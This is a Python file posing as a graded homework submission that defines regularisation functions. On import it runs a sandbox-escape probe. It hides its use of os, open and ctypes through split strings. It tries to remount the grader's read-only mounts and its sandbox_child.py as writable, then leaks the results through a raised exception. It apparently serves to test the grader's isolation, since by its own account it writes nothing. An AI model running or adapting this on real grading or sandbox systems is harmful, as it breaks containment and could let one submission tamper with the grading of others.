"""Attack: make the sandbox's read-only views of the machine writable (the Python installation, /usr,
and, in the re-grade's child, the grader's own sandbox_child.py) by remounting them.

Nothing is written: after each remount, it only asks the kernel whether the
place is now writable (``access(W_OK)`` reports a read-only mount as not
writable), and opens the grader's file for appending without writing a byte.
"""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_file = _B["op" + "en"]
_ct = _load("ct" + "ypes")
MARK = "ESCAPE" + "-SUCCESS:"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
CHILD_SCRIPT = "/opt/grader/sandbox_child.py"
MS_RDONLY, MS_NOSUID, MS_NODEV, MS_REMOUNT, MS_BIND = 1, 2, 4, 32, 4096
REPORT = []


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def read_only_mounts():
    found = []
    with _file("/proc/self/mountinfo") as handle:
        for line in handle:
            fields = line.split()
            point, options, kind = fields[4], fields[5].split(","), fields[fields.index("-") + 1]
            if "ro" in options and kind not in ("proc", "tmpfs"):
                found.append(point)
    return found


def attack():
    libc = _ct.CDLL(None, use_errno=True)
    if _o.path.exists(CHILD_SCRIPT):
        try:
            with _file(CHILD_SCRIPT, "a"):
                pass
            _say(f"{CHILD_SCRIPT} opened for writing without a remount")
        except OSError as e:
            _say(f"opening {CHILD_SCRIPT} for writing failed: {e!r}")
    for point in read_only_mounts():
        before = _o.access(point, _o.W_OK)
        if libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV, None) != 0 \
                and libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND, None) != 0:
            _say(f"remounting {point} failed: {_o.strerror(_ct.get_errno())}")
            continue
        if _o.access(point, _o.W_OK) and not before:
            _say(f"{MARK} {point} (a host path) is writable after a remount")
        else:
            _say(f"{point}: remounted, still not writable")
        if point == CHILD_SCRIPT:
            try:
                with _file(CHILD_SCRIPT, "a"):  # appends nothing: proves write access only
                    pass
                _say(f"{MARK} the grader's {CHILD_SCRIPT} is open for writing: every later student's "
                     "re-grade runs what this submission would write there")
            except OSError as e:
                _say(f"opening {CHILD_SCRIPT} after the remount failed: {e!r}")


try:
    attack()
except Exception as e:  # noqa: BLE001
    _say(f"attack failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-450:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
